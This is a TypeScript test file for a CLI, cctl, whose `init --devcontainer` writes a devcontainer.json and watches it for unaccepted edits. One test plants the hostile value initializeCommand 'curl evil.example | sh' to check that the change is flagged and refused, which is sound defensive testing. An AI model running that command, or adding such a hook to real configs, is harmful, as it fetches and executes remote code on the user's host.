/**
 * `cctl init --devcontainer`: the editor's devcontainer.json names the same
 * compose files and project as `cctl up` (no user's home in the committed
 * text), is kept in step with the settings, and is held against the version
 * accepted last: an edit nobody accepted (an initializeCommand, which the
 * editor runs on the host) is refused by init and up, and named by doctor.
 */
import test from 'ava';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { initProject } from '../../lib/ops/init.js';
import { devcontainerCheck, pendingDevcontainerChanges } from '../../lib/ops/devcontainer.js';
import { pathChanges, writeAccepted } from '../../lib/ops/protected.js';
import { protectedBinds } from '../../lib/project/protected-paths.js';
import { devcontainerChanges, mergeDevcontainer, renderDevcontainer } from '../../lib/project/devcontainer.js';
import { defaults } from '../../lib/project/settings.js';
import { fromFlags } from '../../lib/project/setting-layers.js';
import { taskModel } from '../../lib/ops/task/task-model.js';
import type { Project } from '../../lib/project/locate.js';
import { ENGINE_26, FakeEngine, V2, withEngine } from '../helpers/fake-engine.js';
import { ownHome } from '../helpers/project.js';

ownHome(test, 'devcontainer');

function scratch(t: { teardown(fn: () => void): void }): { dir: string; env: NodeJS.ProcessEnv; project: Project; file: string } {
  const root = mkdtempSync(join(tmpdir(), 'cctl-devc-'));
  t.teardown(() => rmSync(root, { recursive: true, force: true }));
  const dir = join(root, 'app');
  mkdirSync(dir);
  const env: NodeJS.ProcessEnv = {
    PATH: process.env.PATH,
    HOME: join(root, 'home'),
    CCTL_MONITOR: '0',
    GIT_CONFIG_GLOBAL: '/dev/null',
    GIT_CONFIG_NOSYSTEM: '1',
  };
  return {
    dir,
    env,
    project: { file: join(dir, 'compose.yaml'), exists: false, dir, name: 'app', nameSource: 'folder' },
    file: join(dir, '.devcontainer', 'devcontainer.json'),
  };
}

const again = (p: Project): Project => ({ ...p, exists: existsSync(p.file) });
const init = (project: Project, env: NodeJS.ProcessEnv, flags: object = {}, more: { acceptChanges?: boolean; force?: boolean } = {}) =>
  withEngine(new FakeEngine({ daemon: ENGINE_26, flavour: V2 }), () =>
    initProject(again(project), { env, flags: fromFlags(flags), ...more }),
  );
const read = (file: string) => JSON.parse(readFileSync(file, 'utf8')) as Record<string, unknown>;

test.serial('init --devcontainer writes the compose files, service, gateway, user and extension; no home path', async (t) => {
  const { project, env, file } = scratch(t);
  const result = await init(project, env, { devcontainer: true });
  t.is(result.devcontainer?.file, file);
  const text = readFileSync(file, 'utf8');
  t.like(JSON.parse(text), {
    name: 'app',
    dockerComposeFile: ['../compose.yaml', '${localEnv:HOME}/.config/cctl/projects/app/compose.machine.yaml'],
    service: 'claude-cli',
    runServices: ['proxy', 'claude-cli'],
    workspaceFolder: '/workspace',
    remoteUser: 'claude',
    shutdownAction: 'none',
    updateRemoteUserUID: false,
    customizations: { vscode: { extensions: ['anthropic.claude-code'] } },
  });
  t.false(text.includes(env.HOME!), 'no home folder of this user in the committed file');
  // This machine's file labels claude-cli the way the Dev Containers CLI looks it up (its exec, an editor's next session).
  const machine = JSON.parse(readFileSync(result.machine.file, 'utf8').replace(/^#.*$/gm, '')) as {
    services: Record<string, { labels: Record<string, string> }>;
  };
  t.like(machine.services['claude-cli']!.labels, { 'devcontainer.local_folder': project.dir, 'devcontainer.config_file': file });
  t.is(machine.services.proxy!.labels['devcontainer.local_folder'], undefined, 'only claude-cli is the dev container');
  t.is(pendingDevcontainerChanges(again(project), env).length, 0);
  t.is((await init(project, env)).devcontainer?.changed, false, 'a second init leaves it as it is');
  // A changed setting is written through: the gateway's service name.
  await init(project, env, { set: ['proxy-service=gateway'] });
  t.deepEqual(read(file).runServices, ['gateway', 'claude-cli']);
  t.is(pendingDevcontainerChanges(again(project), env).length, 0, 'what cctl wrote is the accepted version');
});

test.serial('an initializeCommand written into the file is named first, refused by init, accepted only on request', async (t) => {
  const { project, env, file } = scratch(t);
  await init(project, env, { devcontainer: true });
  const doc = read(file);
  writeFileSync(file, JSON.stringify({ ...doc, initializeCommand: 'curl evil.example | sh' }, null, 2));
  const changes = pendingDevcontainerChanges(again(project), env);
  t.deepEqual(
    changes.map((c) => [c.key, c.host]),
    [['initializeCommand', true]],
  );
  const check = devcontainerCheck(again(project), { devcontainer: true }, env);
  t.is(check.status, 'fail');
  t.regex(check.detail, /initializeCommand \(the editor runs it ON THIS MACHINE[^\n]*\(none\) -> "curl evil\.example \| sh"/);
  const before = readFileSync(file, 'utf8');
  const error = await t.throwsAsync(init(project, env, { set: ['proxy-service=gateway'] }));
  t.regex(error!.message, /devcontainer\.json differs from the version accepted last:\n {2}initializeCommand/);
  t.is(readFileSync(file, 'utf8'), before, 'nothing written');
  t.false(readFileSync(project.file, 'utf8').includes('gateway:'), 'the compose file was not written either');
  // Accepted: the user's key stays, cctl's are written, and it is the new accepted version.
  await init(project, env, { set: ['proxy-service=gateway'] }, { acceptChanges: true });
  t.like(read(file), { initializeCommand: 'curl evil.example | sh', runServices: ['gateway', 'claude-cli'] });
  t.is(devcontainerCheck(again(project), { devcontainer: true }, env).status, 'pass');
});

test.serial("a devcontainer.json of the user's own is not taken over without a yes; then their keys stay", async (t) => {
  const { project, env, file } = scratch(t);
  mkdirSync(join(project.dir, '.devcontainer'));
  writeFileSync(
    file,
    JSON.stringify({ name: 'mine', postCreateCommand: 'make', customizations: { vscode: { extensions: ['ms-python.python'] } } }),
  );
  const error = await t.throwsAsync(init(project, env, { devcontainer: true }));
  t.regex(error!.message, /exists and cctl did not write it/);
  t.regex((error as { hint?: string }).hint ?? '', /--accept-changes/);
  await init(project, env, { devcontainer: true }, { acceptChanges: true });
  t.like(read(file), {
    name: 'app',
    postCreateCommand: 'make',
    service: 'claude-cli',
    customizations: { vscode: { extensions: ['ms-python.python', 'anthropic.claude-code'] } },
  });
  t.true(existsSync(`${file}.bak`), 'the old file is kept beside it');
  const comments = scratch(t);
  mkdirSync(join(comments.dir, '.devcontainer'));
  writeFileSync(comments.file, '// mine\n{}');
  const jsonc = await t.throwsAsync(init(comments.project, comments.env, { devcontainer: true }, { acceptChanges: true }));
  t.regex(jsonc!.message, /cannot be kept in step: it is not plain JSON/);
});

test.serial('written by cctl while claude-cli ran without it bound: not a change; an edit after that is', async (t) => {
  const { project, env, dir, file } = scratch(t);
  await init(project, env);
  // The last up's record: .devcontainer absent (so not read-only in the running claude-cli).
  writeAccepted(again(project), protectedBinds(dir).states, env);
  await init(project, env, { devcontainer: true });
  t.deepEqual(pathChanges(again(project), env).changes, [], 'cctl wrote it on the host');
  writeFileSync(file, readFileSync(file, 'utf8').replace('"shutdownAction": "none"', '"shutdownAction": "stopCompose"'));
  t.deepEqual(
    pathChanges(again(project), env).changes.map((c) => c.path),
    ['.devcontainer'],
  );
  t.deepEqual(
    pendingDevcontainerChanges(again(project), env).map((c) => c.key),
    ['shutdownAction'],
  );
});

test('pure parts: a name other than proxy, external gateways, formatting-only edits, the merge', (t) => {
  const s = { ...defaults(), proxy: 'external' as const };
  t.deepEqual(renderDevcontainer({ projectDir: '/p', composeFile: '/p/deploy/compose.yml', name: 'x', settings: s }).runServices, [
    'claude-cli',
  ]);
  t.deepEqual(renderDevcontainer({ projectDir: '/p', composeFile: '/p/deploy/compose.yml', name: 'x', settings: s }).dockerComposeFile, [
    '../deploy/compose.yml',
    '${localEnv:HOME}/.config/cctl/projects/x/compose.machine.yaml',
  ]);
  t.deepEqual(
    devcontainerChanges('{"a":1}', '{ "a": 1 }').map((c) => c.key),
    ['(formatting)'],
  );
  t.deepEqual(
    devcontainerChanges('{"a":1}', undefined).map((c) => c.key),
    ['a'],
  );
  t.deepEqual(mergeDevcontainer({ service: 'web', forwardPorts: [3000] }, { service: 'claude-cli' }).forwardPorts, [3000]);
  // A task's claude-cli does not carry the project's editor labels (an editor opening the project must find the project's).
  const resolved = {
    services: { 'claude-cli': { image: 'i', labels: { 'devcontainer.local_folder': '/p', 'dev.cctl.owner.uid': '1' }, volumes: [] } },
  };
  const task = taskModel(resolved, {
    services: ['claude-cli'],
    projectDir: '/p',
    taskDir: '/t',
    commonDir: '/p/.git',
    homeVolume: 'p_claude-home',
    projectName: 'p',
  }) as typeof resolved;
  t.deepEqual(task.services['claude-cli'].labels, { 'dev.cctl.owner.uid': '1' });
});
